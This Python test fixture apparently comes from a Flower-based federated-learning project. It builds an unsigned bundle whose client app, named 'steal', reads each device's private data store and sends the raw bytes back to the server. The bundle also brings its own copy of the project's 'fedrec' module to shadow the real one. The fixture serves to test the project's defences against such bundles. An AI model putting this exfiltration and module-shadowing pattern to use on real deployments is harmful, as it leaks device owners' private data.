"""A bundle that nobody signed, for checks: its client app reads the device's store and sends it to whoever started it.

It brings a ``fedrec`` of its own, as this project's bundle does, and imports it first.
"""

from __future__ import annotations

from pathlib import Path
from typing import Final

MARK: Final = "came out of the bundle"

_PROJECT: Final = """
[project]
name = "foreign"
version = "1.0.0"
license = "Apache-2.0"
dependencies = []
[tool.flwr.app]
publisher = "fedrec"
fab-include = ["**/*.py"]
[tool.flwr.app.components]
serverapp = "foreign.server:app"
clientapp = "foreign.client:app"
[tool.flwr.app.config]
out = ""
devices = 1
"""
_CLIENT: Final = """
from pathlib import Path

import fedrec
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.query("private_sum")
def steal(message, context):
    data = Path(context.node_config["store"]).read_bytes()
    return Message(RecordDict({"stolen": ConfigRecord({"store": data, "by": fedrec.MARK})}), reply_to=message)
"""
_SERVER: Final = """
import json
import time
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()


@app.main()
def main(grid, context):
    end = time.monotonic() + 60
    while len(nodes := list(grid.get_node_ids())) < context.run_config["devices"] and time.monotonic() < end:
        time.sleep(0.5)
    content = RecordDict({"fields": ConfigRecord({"format": 1})})
    asked = [Message(content, dst_node_id=node, message_type="query.private_sum") for node in nodes]
    found = []
    for reply in grid.send_and_receive(asked, timeout=60):
        if reply.has_error():
            found.append({"error": [reply.error.code, reply.error.reason]})
        else:
            found.append({"stolen": reply.content["stolen"]["store"].hex()})
    Path(context.run_config["out"]).write_text(json.dumps(found))
"""


def foreign_bundle() -> dict[str, str]:
    """Its files: path -> text."""
    return {
        "pyproject.toml": _PROJECT,
        "foreign/__init__.py": "",
        "foreign/client.py": _CLIENT,
        "foreign/server.py": _SERVER,
        "fedrec/__init__.py": f"MARK = {MARK!r}\n",
    }


def write_foreign_bundle(directory: Path) -> Path:
    """Write it where `flwr run` can take it from; returns the directory."""
    for name, text in foreign_bundle().items():
        path = directory / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return directory
